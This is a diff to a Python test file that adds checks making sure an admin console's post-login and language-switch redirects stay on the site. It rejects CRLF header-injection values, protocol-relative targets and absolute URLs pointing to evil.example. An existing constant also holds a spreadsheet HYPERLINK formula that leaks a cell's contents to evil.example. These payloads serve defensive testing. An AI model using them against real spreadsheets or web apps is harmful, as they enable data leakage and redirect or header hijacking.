@@ -10,7 +10,8 @@ from datetime import datetime
 import pytest
 
 from smartapp.plugin import MonthlyFigure, Plugin
-from smartapp.testing import with_plugins
+from smartapp.testing import TEST_PASSWORD, with_plugins
+from tests.console.conftest import csrf_token
 
 HTML = {"Accept": "text/html"}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
@@ -92,3 +93,29 @@ def test_a_nul_in_a_query_string_is_a_422_naming_it(client, admin, sign_in, path
     assert page.status_code == 422 and f"<strong>{field}</strong>" in page.get_data(as_text=True)
     answer = client.get(path, headers={"Accept": "application/json"})
     assert answer.status_code == 422 and field in answer.get_json()["errors"]
+
+
+@pytest.mark.parametrize(
+    ("target", "location"),
+    [
+        ("/admin/\r\nSet-Cookie: x=1", "/admin/"),
+        ("/admin/\nx", "/admin/"),
+        ("//evil.example", "/admin/"),
+        ("https://evil.example/admin/", "/admin/"),
+        ("/admin/reports?month=2026-02", "/admin/reports?month=2026-02"),
+    ],
+)
+def test_where_to_go_after_signing_in_stays_on_the_console(client, admin, target, location):
+    signed_in = client.post(
+        "/admin/",
+        data={
+            "email": admin.account.email,
+            "password": TEST_PASSWORD,
+            "csrf_token": csrf_token(client),
+            "next": target,
+        },
+    )
+    assert signed_in.status_code == 303 and signed_in.headers["Location"] == location
+    data = {"language": "en", "next": target, "csrf_token": csrf_token(client)}
+    switched = client.post("/admin/language", data=data)
+    assert switched.status_code == 303 and switched.headers["Location"] == location
